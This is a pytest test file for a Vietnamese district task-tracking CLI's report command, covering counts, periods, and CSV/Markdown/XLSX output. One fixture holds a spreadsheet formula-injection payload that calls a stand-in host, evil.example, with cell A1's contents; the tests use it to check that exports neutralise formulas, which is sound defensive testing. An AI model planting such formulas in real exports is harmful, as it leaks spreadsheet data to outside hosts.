"""The periodic report on the reference notice, against numbers worked out by hand."""

from __future__ import annotations

import calendar
import csv
import io
import json
import re
import shutil
import subprocess
from datetime import date, timedelta

import pytest

from cchc_cli.core.dateargs import Period, parse_period
from cchc_cli.core.errors import OptionError
from runner import cchc

NOTICE = "tb-ket-luan-cchc-vinh-linh-2023-11.yaml"
CATEGORIES = ("done_on_time", "done_late", "done_no_deadline", "in_progress", "overdue", "ongoing")


def report(*args: str) -> dict:
    result = cchc("report", "-f", "json", *args)
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)


def mark(data_dir, after: str, lines: str) -> None:
    path = data_dir / "notices" / NOTICE
    text = path.read_text("utf-8")
    assert text.count(after) == 1
    path.write_text(text.replace(after, after + lines), "utf-8")


def row(document: dict, unit: str) -> tuple:
    (found,) = [r for r in document["units"] if r["unit"] == unit]
    return (found["total"], *(found[c] for c in CATEGORIES), found["overdue_rate"])


# Phòng Nội vụ has 1.1, 1.3 and 2.1, 2.4 (no deadline), 1.2 (last day 24/11),
# 2.3 (24/11) and 2.2 (09/12). Xã Vĩnh Hà has 1.1 and 1.3 (none), 1.2 (24/11),
# 8.2 (23/11), 8.3 (13/12) and 8.1 (14/12).
@pytest.mark.parametrize(
    ("args", "noi_vu", "vinh_ha"),
    [
        (["--period", "2023-11", "--as-of", "2023-11-22"], (7, 0, 0, 0, 3, 0, 4, 0.0),
         (6, 0, 0, 0, 4, 0, 2, 0.0)),
        (["--period", "2023-11"], (7, 0, 0, 0, 1, 2, 4, 66.7), (6, 0, 0, 0, 2, 2, 2, 50.0)),
        (["--period", "2023-Q4"], (7, 0, 0, 0, 0, 3, 4, 100.0), (6, 0, 0, 0, 0, 4, 2, 100.0)),
        (["--period", "2023-12-01..2023-12-13"], (7, 0, 0, 0, 0, 3, 4, 100.0),
         (6, 0, 0, 0, 2, 2, 2, 50.0)),
    ],
)  # fmt: skip
def test_numbers_per_unit_as_of_the_end_of_the_period(data_dir, args, noi_vu, vinh_ha):
    document = report(*args)
    assert row(document, "noi-vu") == noi_vu
    assert row(document, "vinh-ha") == vinh_ha


def test_totals_count_each_member_of_a_group_once(data_dir):
    document = report("--period", "2023-11")
    totals = document["totals"]
    assert (totals["total"], totals["in_progress"], totals["overdue"], totals["ongoing"]) == (
        159,
        43,
        51,
        65,
    )
    assert totals["overdue_rate"] == 54.3  # 51 of the 94 pairs with a deadline
    assert len(document["units"]) == 31


def test_completions_count_on_time_or_late(data_dir):
    mark(data_dir, "    deadline: trước ngày 25/11/2023\n", "    done: {noi-vu: 2023-11-24}\n")
    mark(data_dir, "    report_to: noi-vu\n", "    done: {noi-vu: 2023-11-26}\n")
    document = report("--period", "2023-11")
    assert row(document, "noi-vu") == (7, 1, 1, 0, 1, 0, 4, 0.0)
    early = report("--period", "2023-11", "--as-of", "2023-11-25")
    assert row(early, "noi-vu") == (7, 1, 0, 0, 1, 1, 4, 33.3)


def test_notices_issued_after_the_period_are_left_out(data_dir):
    document = report("--period", "2023-10")
    assert document["units"] == [] and document["totals"]["total"] == 0
    result = cchc("report", "--period", "2023-10")
    assert "Không có nhiệm vụ nào." in result.stdout


def test_units_in_vietnamese_order_or_the_registry_s(data_dir):
    alpha = [r["unit"] for r in report("--period", "2023-11")["units"]]
    assert alpha[:3] == ["ban-qlda", "gd-dt", "kt-ht"]
    assert alpha.index("vp-hdnd-ubnd") < alpha.index("hien-thanh")
    registry = [r["unit"] for r in report("--period", "2023-11", "--order", "registry")["units"]]
    assert registry[:3] == ["vp-hdnd-ubnd", "noi-vu", "tu-phap"]


def test_the_overdue_list_marks_what_is_late_by_more_than_30_days(data_dir):
    document = report("--period", "2023-12", "--unit", "noi-vu")
    listed = [(o["ref"], o["days_overdue"], o["long"]) for o in document["overdue"]]
    assert listed == [
        ("cchc-2023-11/1.2", 37, True),
        ("cchc-2023-11/2.3", 37, True),
        ("cchc-2023-11/2.2", 22, False),
    ]
    assert document["overdue"][0]["deadline"] == "chậm nhất ngày 24/11/2023"


def test_ongoing_tasks_with_no_report_for_three_months(data_dir):
    assert report("--period", "2024-01", "--unit", "noi-vu")["quiet"] == []
    quiet = report("--period", "2024-02", "--unit", "noi-vu")["quiet"]
    assert [q["ref"] for q in quiet] == [
        "cchc-2023-11/1.1",
        "cchc-2023-11/1.3",
        "cchc-2023-11/2.1",
        "cchc-2023-11/2.4",
    ]
    # Counted from the meeting (22/11), not from the partial date's first day (01/11).
    assert (quiet[0]["assigned"], quiet[0]["last_report"]) == ("2023-11-22", None)
    assert quiet[0]["since"] == "2023-11-22"
    mark(
        data_dir,
        "      phục vụ công tác đánh giá, xếp loại cuối năm.\n",
        "    notes:\n      - {on: 2024-01-15, text: đã tổng hợp quý IV}\n",
    )
    quiet = report("--period", "2024-02", "--unit", "noi-vu")["quiet"]
    assert "cchc-2023-11/2.4" not in [q["ref"] for q in quiet]


def test_the_quiet_list_counts_from_the_meeting_day_not_the_partial_date(data_dir):
    # Three months before 05/02/2024 is 05/11/2023: after 01/11, before the meeting 22/11.
    assert report("--period", "2024-02", "--as-of", "2024-02-05", "--unit", "noi-vu")["quiet"] == []
    quiet = report("--period", "2024-02", "--as-of", "2024-02-23", "--unit", "noi-vu")["quiet"]
    assert len(quiet) == 4


def test_the_quiet_list_counts_from_the_day_of_issue_when_there_was_no_meeting(data_dir):
    path = data_dir / "notices" / NOTICE
    text = path.read_text("utf-8")
    text = re.sub(r"(?m)^date: 2023-11 .*$", "date: 2023-11-10", text)
    path.write_text(text.replace("meeting_date: 2023-11-22\n", ""), "utf-8")
    assert report("--period", "2024-02", "--as-of", "2024-02-09", "--unit", "noi-vu")["quiet"] == []
    quiet = report("--period", "2024-02", "--as-of", "2024-02-11", "--unit", "noi-vu")["quiet"]
    assert quiet[0]["since"] == "2023-11-10"


def test_the_quiet_list_never_shows_a_last_report_that_does_not_exist(data_dir):
    result = cchc("report", "--period", "2024-02", "--unit", "noi-vu")
    lines = result.stdout.splitlines()
    quiet = lines[lines.index("Nhiệm vụ thường xuyên chưa có báo cáo trong 3 tháng") :]
    assert "Giao ngày" in quiet[1] and "Báo cáo gần nhất" in quiet[1]
    assert all("22/11/2023" in line and line.endswith("chưa có") for line in quiet[2:])
    mark(
        data_dir,
        "      phục vụ công tác đánh giá, xếp loại cuối năm.\n",
        "    notes:\n      - {on: 2023-11-25, text: đã tổng hợp}\n",
    )
    quiet = report("--period", "2024-02", "--unit", "noi-vu")["quiet"]
    noted = next(q for q in quiet if q["ref"] == "cchc-2023-11/2.4")
    assert (noted["assigned"], noted["last_report"], noted["since"]) == (
        "2023-11-22",
        "2023-11-25",
        "2023-11-25",
    )


# -- periods ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "start", "end", "label"),
    [
        ("2023-11", date(2023, 11, 1), date(2023, 11, 30), "2023-11"),
        ("11/2023", date(2023, 11, 1), date(2023, 11, 30), "2023-11"),
        ("2024-02", date(2024, 2, 1), date(2024, 2, 29), "2024-02"),
        ("2023-Q4", date(2023, 10, 1), date(2023, 12, 31), "2023-Q4"),
        ("q1/2024", date(2024, 1, 1), date(2024, 3, 31), "2024-Q1"),
        ("2023", date(2023, 1, 1), date(2023, 12, 31), "2023"),
        ("01/11/2023..15/11/2023", date(2023, 11, 1), date(2023, 11, 15),
         "2023-11-01..2023-11-15"),
        ("2023-11-01..eom", date(2023, 11, 1), date(2023, 11, 30), "2023-11-01..2023-11-30"),
    ],
)  # fmt: skip
def test_periods(text, start, end, label):
    assert parse_period(text, date(2023, 11, 20)) == Period(start, end, label)


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("2023-13", "date.bad-month"),
        ("2023-Q5", "cli.bad-period"),
        ("tháng trước", "cli.bad-period"),
        ("2023-12-01..2023-11-01", "cli.period-reversed"),
        ("2023-11-31..2023-12-01", "date.bad-day"),
    ],
)
def test_bad_periods_are_usage_errors(text, key):
    with pytest.raises(OptionError) as caught:
        parse_period(text, date(2023, 11, 20))
    assert (caught.value.option, caught.value.key) == ("--period", key)


def test_a_bad_period_on_the_command_line_exits_2(data_dir):
    result = cchc("report", "--period", "2023-Q5", "--lang", "en")
    assert result.exit_code == 2
    assert result.stderr.startswith("cchc: error: --period: '2023-Q5' is not a period; use")


# -- formats -----------------------------------------------------------------------------


def test_markdown_for_pasting(data_dir, golden):
    result = cchc("report", "--period", "2023-12", "--unit", "gd-dt", "-f", "md")
    assert result.exit_code == 0
    golden("report-gd-dt.md", result.stdout)


def test_the_terminal_table(data_dir, golden):
    result = cchc("report", "--period", "2023-12", "--unit", "Vĩnh Hoà", "--lang", "en")
    golden("report-vinh-hoa.en.txt", result.stdout)


@pytest.fixture
def hostile(data_dir):
    """A task whose text a spreadsheet would run as a formula."""
    (data_dir / "notices" / "x.yaml").write_text(
        "id: tb-x\ndate: 2023-11-01\ntitle: T\ntasks:\n"
        "  - id: '1'\n    assignees: [noi-vu]\n"
        '    text: \'=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")\'\n'
        "    deadline: trước ngày 10/11/2023\n",
        "utf-8",
    )
    return '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")'


def test_csv_has_every_table_and_neutralizes_formulas(hostile):
    result = cchc("report", "--period", "2023-11", "--unit", "noi-vu", "-f", "csv")
    assert result.stdout.startswith("\ufeffBÁO CÁO TÌNH HÌNH THỰC HIỆN NHIỆM VỤ")
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    assert rows[4][:3] == ["STT", "Đơn vị", "Tổng số nhiệm vụ"]
    assert rows[5][:3] == ["1", "Phòng Nội vụ", "8"]
    texts = [cell for r in rows for cell in r if "HYPERLINK" in cell]
    assert texts == ["'" + hostile]
    listed = cchc("list", "--unit", "noi-vu", "-f", "csv").stdout
    assert "'=HYPERLINK" in listed


def test_the_workbook_read_back(hostile, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "bao-cao.xlsx"
    result = cchc("report", "--period", "2023-11", "-f", "xlsx", "-o", str(path))
    assert result.exit_code == 0, result.stderr
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Tổng hợp", "Quá hạn", "Biểu đồ", "Không thời hạn"]
    summary = workbook.worksheets[0]
    assert summary["A1"].value == "BÁO CÁO TÌNH HÌNH THỰC HIỆN NHIỆM VỤ THEO THÔNG BÁO KẾT LUẬN"
    assert summary["A1"].font.sz == 14
    assert summary["A2"].value == (
        "UBND huyện Vĩnh Linh - kỳ báo cáo tháng 11/2023, số liệu tính đến ngày 30/11/2023"
    )
    assert summary["A4"].value == "Tổng hợp theo đơn vị"
    header = [c.value for c in summary[5]]
    assert header[:3] == ["STT", "Đơn vị", "Tổng số nhiệm vụ"]
    assert header[-3:] == ["Đã hủy", "Hoàn thành (%)", "Tỷ lệ quá hạn (%)"]
    assert all(c.font.bold for c in summary[5] if c.value)
    assert summary.freeze_panes == "A6"
    noi_vu = next(r for r in summary.iter_rows(min_row=6) if r[1].value == "Phòng Nội vụ")
    assert noi_vu[2].value == 8 and isinstance(noi_vu[2].value, int)
    assert noi_vu[11].value == pytest.approx(0.75)  # 3 overdue of 4 with a deadline
    assert noi_vu[11].number_format == "[$-42A]0.0%"
    assert (noi_vu[9].value, noi_vu[10].value) == (0, 0)  # cancelled, completion
    totals = next(r for r in summary.iter_rows(min_row=6) if r[1].value == "Tổng cộng")
    assert totals[2].value == 160 and totals[1].font.bold
    overdue = workbook.worksheets[1]
    assert overdue["A2"].value == summary["A2"].value  # every sheet says what and when
    cells = [c for r in overdue.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
    assert [(c.value, c.data_type) for c in cells] == [(hostile, "s")]
    assert overdue.freeze_panes == "A6"
    # The whole text, not cut at 90 characters.
    texts = [c.value for r in overdue.iter_rows(min_row=6) for c in r if c.column == 4]
    assert any(t.endswith("về UBND huyện (qua Phòng Nội vụ).") for t in texts)
    assert not any(t.endswith("…") for t in texts)
    assert len(workbook.worksheets[2]._charts) == 1
    chart_data = [r[:2] for r in workbook.worksheets[2].iter_rows(min_row=6, values_only=True)]
    assert ("Phòng Nội vụ", 0) in chart_data
    names = [r[1].value for r in summary.iter_rows(min_row=6, max_row=summary.max_row - 1)]
    assert [r[0] for r in chart_data] == names  # the bars in the table's order


def test_xlsx_needs_an_output_file(data_dir):
    result = cchc("report", "-f", "xlsx", "--lang", "en")
    assert (result.exit_code, result.stderr) == (
        2,
        "cchc: error: --format xlsx needs --output FILE.xlsx\n",
    )


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
def test_the_workbook_renders_in_libreoffice(data_dir, tmp_path):
    path = tmp_path / "bao-cao.xlsx"
    assert cchc("report", "--period", "2023-11", "-f", "xlsx", "-o", str(path)).exit_code == 0
    subprocess.run(
        ["libreoffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    pdf = (tmp_path / "bao-cao.pdf").read_bytes()
    pages = re.findall(rb"/Type\s*/Page[^s]", pdf)
    assert pdf.startswith(b"%PDF") and len(pages) >= 4


# -- data with errors ----------------------------------------------------------------------


@pytest.fixture
def broken(data_dir):
    """The reference notice with an impossible date: the whole notice is left out."""
    path = data_dir / "notices" / NOTICE
    text = path.read_text("utf-8")
    path.write_text(text.replace("meeting_date: 2023-11-22", "meeting_date: 2023-11-31"), "utf-8")
    return f"data/notices/{NOTICE}"


@pytest.mark.parametrize("fmt", ["table", "md", "csv"])
def test_a_report_on_data_with_errors_says_in_itself_what_was_left_out(broken, fmt):
    result = cchc("report", "--period", "2023-11", "-f", fmt)
    assert result.exit_code == 1
    # The table wraps a long line at the screen's width: compare the words.
    said = " ".join(result.stdout.split())
    assert f"1 tệp không được tính (toàn bộ hoặc một phần): {broken}" in said
    english = cchc("report", "--period", "2023-11", "-f", fmt, "--lang", "en")
    said = " ".join(english.stdout.split())
    assert f"1 file(s) not counted (wholly or in part): {broken}" in said


def test_a_json_report_on_data_with_errors_lists_the_files_left_out(broken, data_dir):
    result = cchc("report", "--period", "2023-11", "-f", "json")
    assert result.exit_code == 1
    assert json.loads(result.stdout)["left_out"] == [broken]
    assert json.loads(cchc("report", "--period", "2023-11", "-f", "json").stdout)["units"] == []


def test_a_report_on_clean_data_has_no_such_note(data_dir):
    assert report("--period", "2023-11")["left_out"] == []
    assert "LƯU Ý" not in cchc("report", "--period", "2023-11").stdout


def test_a_workbook_on_data_with_errors_says_what_was_left_out(broken, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "bao-cao.xlsx"
    result = cchc("report", "--period", "2023-11", "-f", "xlsx", "-o", str(path))
    assert result.exit_code == 1
    first = load_workbook(path).worksheets[0]
    texts = [c.value for row in first.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(broken in text and "không được tính" in text for text in texts)


def test_the_workbook_says_no_report_where_there_was_none(data_dir, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "bao-cao.xlsx"
    result = cchc(
        "report", "--period", "2024-02", "--unit", "noi-vu", "-f", "xlsx", "-o", str(path)
    )
    assert result.exit_code == 0, result.stderr
    quiet = load_workbook(path)["Không thời hạn"]
    rows = list(quiet.iter_rows(min_row=5, values_only=True))
    assert rows[0][:6] == ("STT", "Đơn vị", "Mã", "Nội dung", "Giao ngày", "Báo cáo gần nhất")
    assert len(rows) == 5 and all(r[5] == "chưa có" for r in rows[1:])
    assert all(r[4].date() == date(2023, 11, 22) for r in rows[1:])


# -- the day a report judges as of -------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "today", "label", "day", "still_open"),
    [
        # the default period, run on 27/11: as of today, not 30/11
        (None, date(2023, 11, 27), "2023-11", date(2023, 11, 27), True),
        # --as-of without --period: the month of that day
        (None, date(2023, 11, 26), "2023-11", date(2023, 11, 26), True),
        (None, date(2023, 11, 30), "2023-11", date(2023, 11, 30), False),
        # a period that has ended: as of its last day
        ("2023-10", date(2023, 11, 27), "2023-10", date(2023, 10, 31), False),
        ("2023-Q4", date(2023, 11, 27), "2023-Q4", date(2023, 11, 27), True),
    ],
)
def test_a_report_judges_as_of_today_while_its_period_runs(written, today, label, day, still_open):
    from cchc_cli.views.report import report_period

    period, judged, running = report_period(written, today)
    assert (period.label, judged, running) == (label, day, still_open)


def test_the_heading_says_when_the_period_has_not_ended(data_dir):
    from pathlib import Path

    from cchc_cli.store.loader import load
    from cchc_cli.views.i18n import Lang
    from cchc_cli.views.report import build, report_view

    dataset = load(Path("data"))
    running = build(dataset, list(dataset.tasks), date(2023, 11, 27), period_open=True)
    heading = report_view(running, dataset.registry, Lang.VI, "2023-11").heading
    assert heading[-1] == (
        "UBND huyện Vĩnh Linh - kỳ báo cáo tháng 11/2023 (chưa kết thúc), "
        "số liệu tính đến ngày 27/11/2023"
    )
    ended = build(dataset, list(dataset.tasks), date(2023, 11, 30))
    english = report_view(ended, dataset.registry, Lang.EN, "2023-11").heading
    assert english[-1] == "UBND huyện Vĩnh Linh - period November 2023, as of 2023-11-30"


def office_today() -> date:
    from datetime import UTC, datetime

    from cchc_cli.core.status import office_date

    return office_date(datetime.now(UTC), "Asia/Ho_Chi_Minh")


def test_the_default_report_judges_as_of_today_not_the_end_of_the_month(data_dir):
    """The issue's case: run on 27/11, a task due 28/11 is not late yet."""
    today = office_today()
    tomorrow = today + timedelta(days=1)
    (data_dir / "notices" / "tb-now.yaml").write_text(
        f"id: tb-now\nnumber: 9/TB-UBND\ndate: {today.replace(day=1)}\ntitle: T\ntasks:\n"
        f"  - id: '1'\n    assignees: [noi-vu]\n    text: X\n"
        f"    deadline: chậm nhất ngày {tomorrow:%d/%m/%Y}\n",
        "utf-8",
    )
    document = report("--notice", "tb-now")
    if office_today() != today:  # midnight passed meanwhile
        return
    assert (document["period"], document["as_of"]) == (f"{today:%Y-%m}", today.isoformat())
    assert document["period_open"] is (today.day != calendar.monthrange(today.year, today.month)[1])
    assert document["overdue"] == []
    assert document["totals"]["in_progress"] == 1
    heading = cchc("report", "--notice", "tb-now").stdout.splitlines()[1]
    if document["period_open"]:
        month = f"{today.month:02d}" if today.month < 3 else str(today.month)
        assert f"kỳ báo cáo tháng {month}/{today.year} (chưa kết thúc), số liệu tính" in heading


def test_as_of_without_a_period_reports_the_month_of_that_day(data_dir):
    document = report("--as-of", "2023-11-26")
    assert (document["period"], document["as_of"], document["period_open"]) == (
        "2023-11",
        "2023-11-26",
        True,
    )
    assert document["period_name"] == "tháng 11/2023"
    heading = cchc("report", "--as-of", "26/11/2023").stdout.splitlines()[1]
    assert heading == (
        "UBND huyện Vĩnh Linh - kỳ báo cáo tháng 11/2023 (chưa kết thúc), "
        "số liệu tính đến ngày 26/11/2023"
    )
    # 2.2 (last day 09/12) is in progress on 26/11; 1.2 and 2.3 (24/11) are late.
    assert row(document, "noi-vu")[4:6] == (1, 2)


def test_a_period_that_has_ended_is_judged_as_of_its_last_day(data_dir):
    document = report("--period", "2023-11", "--as-of", "2023-12-15")
    assert (document["as_of"], document["period_open"]) == ("2023-11-30", False)
